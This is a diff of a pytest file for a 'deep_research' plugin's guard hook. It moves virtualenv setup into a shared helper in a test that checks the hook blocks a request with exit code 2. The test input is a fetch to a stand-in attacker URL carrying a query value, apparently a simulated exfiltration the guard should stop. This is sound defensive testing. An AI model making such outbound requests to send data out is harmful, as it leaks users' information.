@@ -20,7 +20,7 @@ from typing import Any
 
 import pytest
 
-from conftest import REPO
+from conftest import REPO, fake_launcher_env
 from deep_research.brief import Brief
 from deep_research.plugin import guard, runstate
 
@@ -518,15 +518,7 @@ def test_finish_ends_guarding(project: Path) -> None:
 def test_hook_shim_blocks_with_exit_2(project: Path) -> None:
     """hooks/guard → bin/deep-research → the guard; here the launcher's env is this Python."""
     data = project / "plugin-data"
-    venv = data / "venv"
-    (venv / "bin").mkdir(parents=True)
-    (venv / "bin" / "python").symlink_to(sys.executable)
-    version = next(
-        line.split('"')[1]
-        for line in (REPO / "pyproject.toml").read_text(encoding="utf-8").splitlines()
-        if line.startswith("version = ")
-    )
-    (venv / ".deep-research-stamp").write_text(f"{version} {REPO}", encoding="utf-8")
+    fake_launcher_env(data / "venv")
     env = {**os.environ, "CLAUDE_PLUGIN_DATA": str(data), "CLAUDE_PROJECT_DIR": str(project)}
     env.pop("DEEP_RESEARCH_STATE", None)
     bad = fetch_event("https://attacker.example/v?s=scope", project)
